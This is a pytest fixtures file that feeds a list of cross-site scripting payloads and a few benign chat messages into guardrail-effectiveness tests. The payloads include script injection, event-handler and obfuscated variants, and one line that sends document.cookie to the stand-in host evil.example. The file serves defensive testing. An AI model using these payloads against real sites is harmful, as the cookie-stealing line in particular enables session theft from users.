"""Pytest fixtures for guardrail effectiveness tests: attack payloads and benign chat samples."""

from __future__ import annotations

from typing import List

import pytest

XSS_PAYLOADS: List[str] = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav\nascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert('XSS')>",
    "<svg/onload=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="file:///etc/passwd">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<form action=javascript:alert(1)><input type=submit><button>go</button></form>",
    "<div style=\"x\" onmouseover='alert(1)'>hover</div>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<select onchange=alert(1)><option>1</option></select>",
    '<base href="javascript:/a/">',
    "<applet code=Evil.class></applet>",
    "<script",
    "</script",
    "< / script >",
    "<sCrIpT>alert(document.cookie)</ScRiPt>",
    "<script>document.location='http://evil.example/?c='+document.cookie</script>",
]

BENIGN_MESSAGES: List[str] = [
    "Hi! Can you summarise the onboarding guide for new hires?",
    "What's the difference between S3 Standard and Glacier (Deep Archive)?",
    "Please compare plans: basic, pro, and enterprise.",
    "I got error 403 when calling the API - any idea why?",
    "Thanks, that helped a lot.",
]


@pytest.fixture(params=XSS_PAYLOADS, ids=lambda p: repr(p)[:40])
def xss_payload(request: pytest.FixtureRequest) -> str:
    return request.param


@pytest.fixture(params=BENIGN_MESSAGES)
def benign_message(request: pytest.FixtureRequest) -> str:
    return request.param
